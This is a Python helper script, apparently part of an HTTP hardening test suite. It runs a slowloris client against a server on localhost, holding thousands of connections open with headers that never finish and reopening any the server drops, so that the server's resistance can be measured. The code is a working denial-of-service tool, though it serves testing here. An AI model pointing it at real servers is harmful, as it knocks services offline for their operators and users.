"""A slowloris client, run as its own process by `test_http_hardening.py` (so the test's own
file descriptors do not run out): `python slowloris.py PORT COUNT SECONDS`.

It opens COUNT connections to 127.0.0.1:PORT in batches, sends each the start of a request
whose headers never end, and holds them; a connection the server closes is opened again (at
most REOPEN_PER_S a second, the optional 4th argument), so the pressure lasts. It prints one
JSON line once all COUNT half-requests are sent, then one every 0.25 s: connections opened in
all, half-requests sent, connections closed by the server, open now."""

from __future__ import annotations

import json
import resource
import selectors
import socket
import sys
import time

BATCH = 250
REOPEN_PER_S = 50
HALF_REQUEST = b"GET /status HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: "


class Attacker:
    def __init__(self, port: int) -> None:
        self.port = port
        self.sel = selectors.DefaultSelector()
        self.opened = self.sent = self.closed = 0

    def open(self) -> None:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", self.port))
        self.sel.register(s, selectors.EVENT_WRITE)
        self.opened += 1

    def poll(self, timeout: float) -> None:
        for key, events in self.sel.select(timeout):
            s: socket.socket = key.fileobj  # type: ignore[assignment]
            if events & selectors.EVENT_WRITE:  # connected (or failed): send the half request
                try:
                    s.send(HALF_REQUEST)
                    self.sent += 1
                    self.sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    self._drop(s)
            elif events & selectors.EVENT_READ:  # the server answered or closed: either ends it
                self._drop(s)

    def _drop(self, s: socket.socket) -> None:
        self.sel.unregister(s)
        s.close()
        self.closed += 1

    def report(self) -> None:
        print(json.dumps({"opened": self.opened, "sent": self.sent, "closed": self.closed,
                          "open": len(self.sel.get_map())}), flush=True)


def main() -> None:
    port, count, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    reopen_per_s = float(sys.argv[4]) if len(sys.argv) > 4 else REOPEN_PER_S
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attacker = Attacker(port)
    end = time.monotonic() + seconds
    while attacker.opened < count:
        for _ in range(min(BATCH, count - attacker.opened)):
            attacker.open()
        attacker.poll(0.02)
    while attacker.sent < count and time.monotonic() < end:  # every one of them half-sent
        attacker.poll(0.02)
    attacker.report()
    next_report = time.monotonic()
    while time.monotonic() < end:
        budget = int(reopen_per_s * 0.1)
        while budget and len(attacker.sel.get_map()) < count:
            attacker.open()
            budget -= 1
        stop = time.monotonic() + 0.1
        while time.monotonic() < stop:
            attacker.poll(0.02)
        if time.monotonic() >= next_report:
            attacker.report()
            next_report += 0.25


if __name__ == "__main__":
    main()
